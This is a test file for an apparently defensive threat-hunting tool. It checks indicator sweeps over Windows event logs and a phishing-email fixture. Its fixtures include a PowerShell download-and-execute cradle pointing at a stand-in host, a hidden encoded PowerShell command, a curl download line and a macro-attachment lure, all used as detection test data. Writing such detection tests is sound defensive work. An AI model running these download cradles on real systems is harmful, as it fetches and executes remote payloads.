import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { Workbench, windowsLines } from '../../support/workbench.ts'

const MAIL = `From: Boss <boss@evil.example>
To: amber@corp.example
Reply-To: other@reply.example
Subject: Invoice 2026
Message-ID: <m1@evil.example>
Date: Mon, 2 Mar 2026 09:00:00 +0000
Received: from mx.evil.example (mx.evil.example [203.0.113.7]) by mail.corp.example; Mon, 2 Mar 2026 09:00:05 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain

Pay here: https://pay.evil.example/a and https://second.evil.example/b?x=1
--b
Content-Type: application/octet-stream; name="Invoice.docm"
Content-Disposition: attachment; filename="Invoice.docm"
Content-Transfer-Encoding: base64

aGVsbG8=
--b--
`

const CONNECTION = JSON.stringify({
  '@timestamp': '2026-03-02T08:30:00.000Z',
  Hostname: 'ws03.corp.example',
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  SourceName: 'Microsoft-Windows-Sysmon',
  EventID: 3,
  RecordNumber: 1,
  UtcTime: '2026-03-02 08:30:00.000',
  Image: 'C:\\Windows\\explorer.exe',
  SourceIp: '10.0.0.3',
  DestinationIp: '203.0.113.7',
  DestinationPort: '443',
  Initiated: 'true',
})

describe('a sweep', () => {
  let bench: Workbench
  beforeEach(async () => {
    bench = await Workbench.open()
    await bench.import(
      bench.file('a.json', windowsLines(5)),
      bench.file('b.json', windowsLines(3, 'ws02.corp.example')),
      bench.file('c.json', CONNECTION),
      bench.file('m.eml', MAIL.replaceAll('\n', '\r\n')),
    )
    await bench.client.run('correlation.run', {})
  })
  afterEach(() => bench.close())

  const read = async (text: string, operator: 'any' | 'all' = 'any') => {
    const { counts: _counts, ...criteria } = await bench.client.call('sweep.read', { text, operator })
    return criteria
  }
  /** `value: field @ entity` of all sightings. */
  const sightings = async (
    text: string,
    options: { operator?: 'any' | 'all'; from?: string; to?: string } = {},
  ) => {
    const criteria = await read(text, options.operator)
    const { operator: _operator, ...period } = options
    const run = await bench.client.run('sweep.run', { criteria, ...period })
    const page = await bench.client.call('sweep.sightings', { id: run.id })
    expect(page.total).toBe(run.counts.sightings)
    return page.rows.map((row) => `${row.value}: ${row.field} @ ${row.entity?.name ?? '-'}`)
  }

  it.each([
    ['file-name:cmd.exe', 8, 'C:\\Windows\\System32\\cmd.exe: process.executable @ WS01'],
    ['file-path:C:\\windows\\SYSTEM32\\', 8, 'C:\\Windows\\System32\\cmd.exe: process.executable @ WS01'],
    ['command-line:cmd /c echo 4', 1, 'cmd /c echo 4: process.command_line @ WS01'],
    ['command-line~ECHO', 8, 'cmd /c echo 0: process.command_line @ WS01'],
    ['host:ws02', 3, 'ws02.corp.example: host.name @ WS02'],
    ['account:amber', 8, 'CORP\\amber: user.name @ WS01'],
    ['Invoice.docm', 1, 'Invoice.docm: email.attachment @ Invoice 2026'],
    ['2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824', 1, ''],
    ['https://second.evil.example/b?x=1', 1, 'https://second.evil.example/b?x=1: email.url @ Invoice 2026'],
    ['hxxps://PAY.evil[.]example/a', 1, ''],
    ['evil.example', 1, ''],
    ['subject:Invoice 2026', 1, 'Invoice 2026: email.subject @ Invoice 2026'],
    ['other@reply.example', 1, 'other@reply.example: email.reply_to @ Invoice 2026'],
    ['203.0.113.0/24', 1, '203.0.113.7: destination.ip @ WS03'],
    ['hxxp://203[.]0[.]113[.]7/x', 0, ''],
    ['198.51.100.1', 0, ''],
  ])('finds %s', async (text, count, first) => {
    const found = await sightings(text)
    expect(found.length).toBe(count)
    if (first !== '') expect(found).toContain(first)
  })

  describe('of commands', () => {
    const script = `$p = 'C:\\Users\\Public\\drop.dll'; IEX (New-Object Net.WebClient).DownloadString('http://cdn.bad.example/a?x=1') # 198.51.100.77`
    const encoded = Buffer.from(script, 'utf16le').toString('base64')
    let records = 100
    const started = (more: Record<string, string>) =>
      JSON.stringify({
        ...(JSON.parse(windowsLines(1, 'ws09.corp.example')) as object),
        RecordNumber: (records += 1),
        ...more,
      })
    beforeEach(async () => {
      await bench.import(
        bench.file('parent.json', started({ ParentCommandLine: 'wscript.exe "C:\\Temp\\order 7.js" //B' })),
        bench.file('encoded.json', started({ CommandLine: `powershell -w hidden -enc ${encoded}` })),
        bench.file(
          'child.json',
          started({
            CommandLine: 'whoami',
            ParentCommandLine: `powershell -w hidden -enc ${encoded}`,
          }),
        ),
        bench.file('plain.json', started({ CommandLine: 'curl -o x http://plain.bad.example:8080/b' })),
      )
      await bench.client.run('correlation.run', {})
    })
    const decoded = `${script}: process.command_line.decoded @ WS09`
    const ofParent = `${script}: process.parent.command_line.decoded @ WS09`
    const plain = 'curl -o x http://plain.bad.example:8080/b: process.command_line @ WS09'

    it.each([
      ['cdn.bad.example', [decoded, ofParent]],
      ['bad.example', [decoded, ofParent, plain]],
      ['hxxp://cdn[.]bad[.]example/a?x=1', [decoded, ofParent]],
      ['198.51.100.0/24', [decoded, ofParent]],
      ['file-name:drop.dll', [decoded, ofParent]],
      ['file-path:C:\\Users\\Public\\', [decoded, ofParent]],
      ['command-line~downloadstring', [decoded, ofParent]],
      [
        'file-name:order 7.js',
        ['wscript.exe "C:\\Temp\\order 7.js" //B: process.parent.command_line @ WS09'],
      ],
      [
        'command-line~order 7',
        ['wscript.exe "C:\\Temp\\order 7.js" //B: process.parent.command_line @ WS09'],
      ],
      ['plain.bad.example', [plain]],
      ['domain:drop.dll', []],
      ['198.51.100.7', []],
    ])('finds %s in them, in those of parents, and in what they decode to', async (text, wanted) => {
      expect((await sightings(text)).sort()).toEqual(wanted.toSorted())
    })

    it('shows what was found also at the end of a long command', async () => {
      const long = `powershell ${'-x 1 '.repeat(200)} http://far.bad.example/z`
      await bench.import(bench.file('long.json', started({ CommandLine: long })))
      await bench.client.run('correlation.run', {})
      const [found] = await sightings('far.bad.example')
      expect(found).toMatch(/^….*http:\/\/far\.bad\.example\/z: process\.command_line @ WS09$/)
      expect(found?.length).toBeLessThan(340)
    })
  })

  it('counts a record once, however many of its fields speak of an indicator', async () => {
    expect(await sightings('domain:evil.example')).toHaveLength(1)
  })

  it('asks for all of a list at one endpoint', async () => {
    expect(await sightings('host:ws02\ncommand-line:cmd /c echo 4', { operator: 'all' })).toEqual([])
    const found = await sightings('host:ws01\ncommand-line:cmd /c echo 4', { operator: 'all' })
    expect(found).toHaveLength(6)
    expect(found.every((row) => row.endsWith('@ WS01'))).toBe(true)
  })

  it('keeps to its period, bounds included', async () => {
    const period = { from: '2026-03-02T08:00:01Z', to: '2026-03-02T08:00:02Z' }
    expect(await sightings('file-name:cmd.exe', period)).toHaveLength(4)
  })

  it('evaluates Sigma rules, asking the raw record for what is not stored', async () => {
    const rule = `title: Echo of a user
id: r1
logsource: {category: process_creation, product: windows}
detection:
  selection:
    CommandLine|contains: 'echo 3'
    RecordNumber: 4
  condition: selection`
    expect(await sightings(rule)).toEqual(['Echo of a user: rule @ WS01'])
    expect(await sightings(rule.replace('RecordNumber: 4', 'RecordNumber: 5'))).toEqual([])
  })

  it('keeps its run: counts, each indicator, and who matched with user, first time and occurrences', async () => {
    const run = await bench.client.run('sweep.run', {
      criteria: await read('command-line~echo\nfile-name:none.exe\nmutex'),
    })
    expect(run.counts).toEqual({
      indicators: 3,
      supported: 2,
      matched: 1,
      sightings: 8,
      endpoints: 2,
      // CORP\\amber, whom the rows below name.
      users: 1,
      messages: 0,
    })
    const kept = await bench.client.call('sweep.get', { id: run.id })
    expect(kept.indicators.map(({ value, supported, sightings: seen }) => [value, supported, seen])).toEqual([
      ['echo', true, 8],
      ['none.exe', true, 0],
      ['mutex', false, 0],
    ])
    expect(
      kept.matches.map(({ entity, users, firstAt, occurrences, indicators }) => ({
        entity: entity.name,
        users: users.map(({ name }) => name),
        firstAt,
        occurrences,
        indicators,
      })),
    ).toEqual([
      {
        entity: 'WS01',
        users: ['CORP\\amber'],
        firstAt: '2026-03-02T08:00:00.000Z',
        occurrences: 5,
        indicators: ['i1'],
      },
      {
        entity: 'WS02',
        users: ['CORP\\amber'],
        firstAt: '2026-03-02T08:00:00.000Z',
        occurrences: 3,
        indicators: ['i1'],
      },
    ])
    expect((await bench.client.call('sweep.runs', {})).map(({ id }) => id)).toEqual([run.id])
    await bench.client.call('sweep.remove', { id: run.id })
    await expect(bench.client.call('sweep.get', { id: run.id })).rejects.toMatchObject({
      code: 'request.not_found',
    })
    const acts = (await bench.client.call('audit.list', { limit: 100 })).rows.map(({ action }) => action)
    expect(acts.slice(-2)).toEqual(['sweep.run', 'sweep.remove'])
  })

  it('names what it matched, so that a chain can mark it: where it was seen and the object that carries it', async () => {
    const matched = async (text: string | null) => {
      const run = text === null ? null : await bench.client.run('sweep.run', { criteria: await read(text) })
      const { ids, total } = await bench.client.call('sweep.matched', { id: run?.id ?? null })
      expect(total).toBe(ids.length)
      const found = await Promise.all(ids.map((id) => bench.client.call('entity.get', { id })))
      return found.map(({ kind, name }) => `${kind}:${name}`).sort()
    }
    expect(await matched('command-line:cmd /c echo 4')).toEqual(['endpoint:WS01', 'process:cmd.exe'])
    expect(await matched('https://second.evil.example/b?x=1')).toEqual([
      'message:Invoice 2026',
      'url:https://second.evil.example/b?x=1',
    ])
    expect(await matched('198.51.100.1')).toEqual([])
    // Without a run: of all there are.
    expect(await matched(null)).toEqual([
      'endpoint:WS01',
      'message:Invoice 2026',
      'process:cmd.exe',
      'url:https://second.evil.example/b?x=1',
    ])
    await expect(bench.client.call('sweep.matched', { id: '99' })).rejects.toMatchObject({
      code: 'request.not_found',
    })
  })

  it('saves criteria under their name, loads and forgets them', async () => {
    const criteria = { ...(await read('evil.example')), name: 'lures' }
    await bench.client.call('sweep.save', { criteria })
    const { id } = await bench.client.call('sweep.save', { criteria })
    expect(await bench.client.call('sweep.saved', {})).toMatchObject([{ id, name: 'lures', indicators: 1 }])
    expect(await bench.client.call('sweep.load', { id })).toEqual(criteria)
    await bench.client.call('sweep.forget', { id })
    expect(await bench.client.call('sweep.saved', {})).toEqual([])
    await expect(bench.client.call('sweep.load', { id })).rejects.toMatchObject({ code: 'request.not_found' })
  })

  it('refuses a tree that names what is not in the list, and a time that is none', async () => {
    const criteria = await read('evil.example')
    await expect(
      bench.client.run('sweep.run', { criteria: { ...criteria, tree: { indicator: 'i9' } } }),
    ).rejects.toMatchObject({ code: 'request.invalid' })
    await expect(bench.client.run('sweep.run', { criteria, from: 'yesterday' })).rejects.toMatchObject({
      code: 'request.invalid',
    })
  })

  it('goes with its evidence: removing a file takes its sightings out of old runs too, which still say how many there were', async () => {
    const criteria = await read('host:ws02')
    const run = await bench.client.run('sweep.run', { criteria })
    const [, second] = await bench.client.call('evidence.list', {})
    await bench.client.run('evidence.remove', { evidenceId: second?.id ?? '' })
    expect((await bench.client.call('sweep.sightings', { id: run.id })).rows).toEqual([])
    expect(
      (await bench.client.call('sweep.runs', {})).map(({ id, counts }) => [id, counts.sightings]),
    ).toEqual([[run.id, 3]])
    expect((await bench.client.run('sweep.run', { criteria })).counts.sightings).toBe(0)
  })
})
